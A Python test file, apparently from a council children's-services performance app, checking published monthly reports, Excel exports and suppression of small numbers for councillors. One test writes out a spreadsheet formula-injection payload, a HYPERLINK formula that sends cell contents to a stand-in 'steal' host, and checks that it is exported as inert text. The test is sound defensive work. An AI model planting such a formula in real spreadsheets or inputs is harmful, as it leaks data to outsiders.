import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from hearth.performance import services
from hearth.testing.journeys import authorised_assessment, new_child

D = datetime.date


@pytest.fixture
def august(staff):
    with time_machine.travel(datetime.datetime(2025, 9, 10, 12, 0, tzinfo=datetime.UTC), tick=False):
        for name, authorised in (("Prompt", D(2025, 5, 30)), ("Tardy", D(2025, 7, 30))):
            authorised_assessment(staff, new_child(staff, name, "Reportcase"), D(2025, 5, 1), authorised)
        services.target_set(
            actor=staff.performance_officer, indicator_id="A01", year=2025, target=Decimal("90"), tolerance=Decimal("5")
        )
        services.target_set(
            actor=staff.performance_officer, indicator_id="F04", year=2025, target=Decimal("0"), tolerance=Decimal("0")
        )
        yield services.snapshot_publish(actor=staff.performance_officer, month=D(2025, 8, 1))


def workbook(client, snapshot):
    response = client.get(reverse("performance:published_workbook", args=[snapshot.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="hearth-performance-2025-08.xlsx"'
    return openpyxl.load_workbook(io.BytesIO(response.content))


def test_the_report_opens_with_strengths_and_areas_for_improvement(staff, august, client_for):
    page = client_for(staff.performance_officer).get(reverse("performance:published_month", args=[august.pk]))
    text = page.content.decode()
    good, improve = text.split("Areas for improvement")
    assert "A01 Assessments completed within 45 working days (red" in improve  # 50% against 90
    assert "A01 Assessments" not in good.split("Areas of good performance")[1]


def test_the_workbook_carries_the_published_figures_and_the_children_behind_them(staff, august, client_for):
    book = workbook(client_for(staff.performance_officer), august)
    figures = {row[0]: row for row in book["Figures"].iter_rows(min_row=4, values_only=True)}
    assert figures["A01"][2:7] == (50.0, 1, 2, 90.0, "red")
    behind = list(book["Behind the figures"].iter_rows(min_row=2, values_only=True))
    assert {(row[3], row[6]) for row in behind if row[0] == "A01"} == {
        ("Prompt Reportcase", "yes"),
        ("Tardy Reportcase", "no"),
    }


def test_the_councillors_workbook_has_figures_only_with_small_numbers_suppressed(staff, august, client_for):
    book = workbook(client_for(staff.councillor), august)
    assert book.sheetnames == ["Figures"]
    figures = {row[0]: row for row in book["Figures"].iter_rows(min_row=4, values_only=True)}
    assert figures["A01"][2:5] == ("c", "c", "c")


def test_typed_text_reaches_the_workbook_as_text_never_as_a_formula_or_link(staff, client_for):
    """Formula injection: a commentary typed as "=HYPERLINK(...)" must not become a live formula."""
    typed = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click for the full figures")'
    with time_machine.travel(datetime.datetime(2025, 9, 10, 12, 0, tzinfo=datetime.UTC), tick=False):
        services.commentary_write(actor=staff.performance_officer, indicator_id="A01", month=D(2025, 8, 1), text=typed)
        services.commentary_write(
            actor=staff.performance_officer, indicator_id="A02", month=D(2025, 8, 1), text="https://example.invalid/x"
        )
        snapshot = services.snapshot_publish(actor=staff.performance_officer, month=D(2025, 8, 1))
    response = client_for(staff.performance_officer).get(reverse("performance:published_workbook", args=[snapshot.pk]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = {row[0].value: row[9] for row in book["Figures"].iter_rows(min_row=4) if row[0].value in ("A01", "A02")}
    assert cells["A01"].value == typed
    assert cells["A01"].data_type == "s"  # a string; a formula would be "f"
    assert cells["A02"].hyperlink is None
